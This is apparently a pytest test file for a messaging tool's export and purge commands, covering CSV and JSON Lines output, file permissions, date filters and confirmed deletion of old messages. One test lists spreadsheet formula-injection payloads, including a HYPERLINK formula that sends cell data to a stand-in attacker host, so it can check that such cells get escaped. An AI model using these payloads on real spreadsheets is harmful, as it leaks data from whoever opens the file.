"""The record on the command line: exported whole and safely, and what is old deleted after a yes."""

import csv
import io
import json
import os
import stat
import sys
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote

import anyio
import pytest
from click.testing import CliRunner, Result

from bulkvs_mcp.messaging.history import export
from bulkvs_mcp.messaging.receiving.inbox import Inbox
from bulkvs_mcp.messaging.record.retention import BATCH, DAY_MS
from bulkvs_mcp.messaging.record.store import Store
from bulkvs_mcp.provider.simulator.app import FAILING_RECIPIENT, Simulator
from bulkvs_mcp.server.admin import records
from bulkvs_mcp.server.command_line import main

from ...helpers.support import call, in_process

ALICE, BOB, OURS = "13105551212", "13125551213", "13109060901"
MONDAY = 1_800_000_000_000
COLUMNS = [
    "message_id",
    "direction",
    "at",
    "number",
    "our_number",
    "text",
    "media",
    "status",
    "delivery",
    "delivery_code",
    "delivery_at",
    "looks_like_opt_out",
    "error",
]


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "record.db"


@pytest.fixture
def url(path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """The record of every command here."""
    url = f"sqlite://{path.as_posix()}"
    monkeypatch.setenv("BULKVS_STORE", url)
    return url


def receive(url: str, *texts: str, at: int = MONDAY, step: int = 1000, **fields: object) -> None:
    """Texts from Alice, a second apart."""

    async def post() -> None:
        with closing(Store(url)) as store:
            for place, text in enumerate(texts):
                inbox = Inbox(store, lambda moment=at + place * step: moment)
                posted = {"From": ALICE, "To": [OURS], "Message": quote(text)} | fields
                await inbox.take(json.dumps(posted).encode())

    anyio.run(post)


def invoked(*arguments: str, answer: str | None = None) -> Result:
    return CliRunner().invoke(main, arguments, input=answer)


def exported(*arguments: str) -> list[dict[str, Any]]:
    """The lines of a JSON Lines export."""
    result = invoked("export", "--format", "jsonl", *arguments)
    assert (result.exit_code, result.stderr) == (0, "")
    return [json.loads(line) for line in result.stdout.splitlines()]


def table(result: Result) -> list[dict[str, str]]:
    assert (result.exit_code, result.stderr) == (0, "")
    # A result's own text has other line ends.
    return list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))


# Export


async def _texts_both_ways(url: str) -> None:
    async with in_process(Simulator(), store=url) as client:
        await call(client, "send_message", to=[ALICE, FAILING_RECIPIENT], message="Your table is ready")


def test_every_message_and_person_is_a_line(url: str) -> None:
    anyio.run(_texts_both_ways, url)
    receive(url, "Please stop texting me", MediaURLs=["https://m.example/1.jpg", "https://m.example/2.jpg"])
    *sent, received = exported()
    assert received.pop("message_id").startswith("in_")
    assert received == {
        "direction": "inbound",
        "at": "2027-01-15T08:00:00.000Z",
        "number": ALICE,
        "our_number": OURS,
        "text": "Please stop texting me",
        "media": ["https://m.example/1.jpg", "https://m.example/2.jpg"],
        "status": "received",
        "looks_like_opt_out": True,
    }
    assert {(line["direction"], line["number"], line["status"]) for line in sent} == {
        ("outbound", ALICE, "sent"),
        ("outbound", FAILING_RECIPIENT, "failed"),
    }
    [code] = [line["error"]["code"] for line in sent if "error" in line]
    assert {row["error"] for row in table(invoked("export"))} == {"", code}


def test_a_table_says_the_same(url: str) -> None:
    receive(url, 'Hello, you\nthere "friend" 👋', MediaURLs=["https://m.example/1.jpg", "https://m.example/2.jpg"])
    result = invoked("export")
    [row] = table(result)
    assert list(row) == COLUMNS
    assert row["text"] == 'Hello, you\nthere "friend" 👋'
    assert row["media"] == "https://m.example/1.jpg https://m.example/2.jpg"
    assert (row["number"], row["status"], row["delivery"], row["looks_like_opt_out"]) == (
        ALICE,
        "received",
        "",
        "",
    )


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\x00=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_no_cell_is_a_formula(url: str, words: str) -> None:
    receive(url, words)
    [row] = table(invoked("export"))
    assert row["text"] == f"'{words}"
    assert exported()[0]["text"] == words


@pytest.mark.parametrize("words", ["Hello = you", "1+1=2", "a@b.example", "'quoted'", "5 - 3", "", " "])
def test_other_cells_are_as_they_were(url: str, words: str) -> None:
    receive(url, words)
    [row] = table(invoked("export"))
    assert row["text"] == words


def test_all_pages_in_their_order(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 3)
    receive(url, *(f"Text {number}" for number in range(5)))
    # All in one moment: the page must not end between them.
    receive(url, *(f"Text {number}" for number in range(5, 12)), at=MONDAY + 60_000, step=0)
    listed = exported()
    assert sorted(line["text"] for line in listed) == sorted(f"Text {number}" for number in range(12))
    assert [line["at"] for line in listed] == sorted(line["at"] for line in listed)


@pytest.mark.parametrize(
    ("since", "texts"),
    [
        ("2027-01-15T08:00:00Z", ["Text 0", "Text 1"]),
        ("2027-01-15T08:00:00.5Z", ["Text 1"]),
        ("2027-01-15T09:00:01+01:00", ["Text 1"]),
        ("2027-01-16", []),
    ],
)
def test_only_since_then(url: str, since: str, texts: list[str]) -> None:
    receive(url, "Text 0", "Text 1")
    assert [line["text"] for line in exported("--since", since)] == texts


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such modes")
def test_a_file_is_its_owner_s(url: str, tmp_path: Path) -> None:
    receive(url, "Hello")
    file = tmp_path / "texts.csv"
    umask = os.umask(0)
    try:
        result = invoked("export", str(file))
    finally:
        os.umask(umask)
    assert (result.exit_code, result.output) == (0, "")
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert file.read_bytes() == invoked("export").stdout_bytes
    assert b"\r" not in file.read_bytes()


class Screen(io.StringIO):
    """A text that is a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("messages", [1, 5])
def test_a_long_one_shows_how_far_it_is(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, messages: int
) -> None:
    receive(url, *(f"Text {number}" for number in range(messages)))
    monkeypatch.setattr(records, "LONG", 5)
    screen = Screen()
    monkeypatch.setattr(sys, "stderr", screen)
    main(["export", str(tmp_path / "texts.csv")], standalone_mode=False)
    main(["purge", "--older-than", "0d", "--yes"], standalone_mode=False)
    assert ("Exporting" in screen.getvalue()) is (messages == 5)
    assert "Text" not in screen.getvalue()


@pytest.mark.parametrize(
    ("arguments", "code", "complaint"),
    [
        (["--format", "xml"], 2, "'xml' is not one of"),
        (["--since", "yesterday"], 2, "not an ISO 8601"),
        (["/nowhere/at/all.csv"], 1, "Cannot write /nowhere/at/all.csv"),
    ],
)
def test_what_cannot_be_exported(url: str, arguments: list[str], code: int, complaint: str) -> None:
    receive(url, "Hello")
    result = invoked("export", *arguments)
    assert (result.exit_code, result.stdout) == (code, "")
    assert complaint in result.stderr


@pytest.mark.parametrize("command", [["export"], ["purge", "--older-than", "90d"]])
@pytest.mark.parametrize(
    ("flags", "complaint"),
    [
        (["--store", "sqlite:///nowhere/record.db"], "There is no record at"),
        (["--store", "postgresql://db"], "BULKVS_STORE is malformed"),
        (["--sandbox"], "in memory"),
        pytest.param(
            ["--store", "sqlite:///dev/null"],
            "The record cannot be used",
            marks=pytest.mark.skipif(os.name == "nt", reason="Windows has no such file"),
        ),
    ],
)
def test_another_record_is_never_taken(flags: list[str], command: list[str], complaint: str) -> None:
    result = invoked(*flags, *command)
    assert (result.exit_code, result.stdout) == (1, "")
    assert complaint in result.stderr


def test_a_record_that_is_not_there_is_not_made(url: str, path: Path) -> None:
    assert invoked("export").exit_code == 1
    assert not path.exists()


# Purge


def left(url: str) -> list[str]:
    with closing(Store(url)) as store:
        return [row["text"] for row in store.write_now(lambda tx: tx.rows("SELECT text FROM inbound", {}))]


@pytest.fixture
def monday(monkeypatch: pytest.MonkeyPatch) -> None:
    """The commands run on that day."""
    monkeypatch.setattr(records, "wall_clock", lambda: MONDAY)


@pytest.mark.usefixtures("monday")
@pytest.mark.parametrize(
    ("age", "texts"),
    [("3d", ["2 days"]), ("2w", ["10 days", "2 days"]), ("1y", ["300 days", "10 days", "2 days"]), ("0d", [])],
)
def test_what_is_older_is_deleted(url: str, age: str, texts: Sequence[str]) -> None:
    for days in (400, 300, 10, 2):
        receive(url, f"{days} days", at=MONDAY - days * DAY_MS)
    receive(url, "STOP", at=MONDAY - 400 * DAY_MS, From=BOB)
    result = invoked("purge", "--older-than", age, "--yes")
    assert result.exit_code == 0
    assert left(url) == list(texts)
    assert f"Deleted: 0 messages sent, {5 - len(texts)} received" in result.output
    assert "Opt-outs are kept." in result.output
    assert BOB in invoked("opt-outs", "export").output


@pytest.mark.usefixtures("monday")
@pytest.mark.parametrize(
    ("answer", "code", "texts"), [("y\n", 0, []), ("n\n", 1, ["Hello"]), ("\n", 1, ["Hello"]), ("", 1, ["Hello"])]
)
def test_it_asks(url: str, answer: str, code: int, texts: list[str]) -> None:
    receive(url, "Hello", at=MONDAY - 91 * DAY_MS)
    result = invoked("purge", "--older-than", "90d", answer=answer)
    assert (result.exit_code, left(url)) == (code, texts)
    assert "0 messages sent, 1 received, 0 delivery receipts, 0 unreadable posts" in result.output
    assert "Delete this for good? [y/N]" in result.output


@pytest.mark.usefixtures("monday")
def test_where_nothing_is_old_it_does_not_ask(url: str) -> None:
    receive(url, "Hello")
    result = invoked("purge", "--older-than", "90d")
    assert result.exit_code == 0
    assert result.output.startswith("Nothing was recorded before ")
    assert left(url) == ["Hello"]


@pytest.mark.usefixtures("monday")
def test_a_great_deal_is_deleted_whole(url: str) -> None:
    receive(url, *(f"Text {number}" for number in range(3)), at=MONDAY - DAY_MS)
    with closing(Store(url)) as store:
        store.write_now(
            lambda tx: [
                tx.change("INSERT INTO unreadable VALUES(:id, '', '', 0, 1)", {"id": str(number)})
                for number in range(BATCH + 1)
            ]
        )
    assert f"{BATCH + 1:,} unreadable posts" in invoked("purge", "--older-than", "0d", "--yes").output
    assert left(url) == []


@pytest.mark.parametrize("age", ["", "90", "d", "90 days", "-1d", "1.5y", "123456d", "\u0663d"])
def test_an_age_is_days_weeks_or_years(url: str, age: str) -> None:
    receive(url, "Hello")
    result = invoked("purge", "--older-than", age, "--yes")
    assert result.exit_code == 2
    assert "such as 90d" in result.output
    assert left(url) == ["Hello"]


def test_an_age_must_be_given(url: str) -> None:
    assert invoked("purge", "--yes").exit_code == 2
